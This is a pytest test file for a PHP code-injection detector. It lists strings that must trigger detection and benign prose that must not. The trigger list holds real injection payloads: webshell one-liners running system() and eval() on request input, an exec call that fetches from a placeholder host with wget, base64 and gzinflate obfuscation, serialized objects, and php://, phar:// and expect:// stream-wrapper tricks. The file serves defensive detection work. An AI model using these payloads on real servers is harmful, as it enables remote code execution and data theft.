"""PHP code injection."""

from __future__ import annotations

import pytest

from tests.detect.family_cases import benign_values, families

MUST_FIRE = [
    "<?php system($_GET['c']); ?>",
    "<?= `id` ?>",
    "<? exec('wget http://x/a') ?>",
    '<? php echo "test"',
    "<?\nphp echo 1",
    "<?xml :echo 1;",
    "[php]echo 1;[/php]",
    "base64_decode('ZWNobyAxOw==')",
    "FOOcall_user_func('system', 'id')",
    "gzinflate(base64_decode($x))",
    "shell_exec ('id')",
    "eval($_POST['x'])",
    "exec /*comment*/ ('ls')",
    "system('uname -a');",
    "file()",
    "chr(123).chr(125)",
    "$_SERVER['HTTP_HOST']",
    "$GLOBALS['cf908275'](14)",
    "$a(1)",
    "$$b(2)",
    "@$__[o](4)",
    "${'a'}(11)",
    "$_aB_4c[5]['d'] /*lol*/ (17)",
    "${'ff'}",
    "$ {$a}",
    "${@print(md5(31337))}",
    "(system)('uname');",
    "[system][0](ls);",
    'O:8:"stdClass":1:{s:1:"a";i:2;}',
    'C:11:"ArrayObject":37:{x:i:0;a:0:{};m:a:0:{}}',
    "php://filter/convert.base64-encode/resource=index.php",
    "phar://uploads/avatar.jpg/shell.php",
    "expect://id",
    "zip://archive.zip#shell.php",
    "allow_url_include=On",
    "auto_prepend_file=php://input",
    "session.save_path=/tmp",
]

MUST_NOT_FIRE = [
    "Rate: <? 5% (php devs ask)",
    "see file (attached)",
    "include (optional) notes",
    "system (SAP) maintenance tonight",
    "Pay $AAPL (Apple Inc)",
    "$100 (approx)",
    "Cost: $amount (to be confirmed)",
    "Order (2) of (3)",
    "Copy (1) of statement",
    "The phar lap rule",
    "session expired, log in again",
    "engine=v8 in the stack list",
    "Hello ${firstName}",
    "What <? means in a template",
]


@pytest.mark.parametrize("payload", MUST_FIRE)
def test_php_fires(payload: str) -> None:
    assert "php" in families(payload, "query", "q")


@pytest.mark.parametrize("payload", MUST_NOT_FIRE + benign_values())
def test_prose_passes(payload: str) -> None:
    assert "php" not in families(payload)
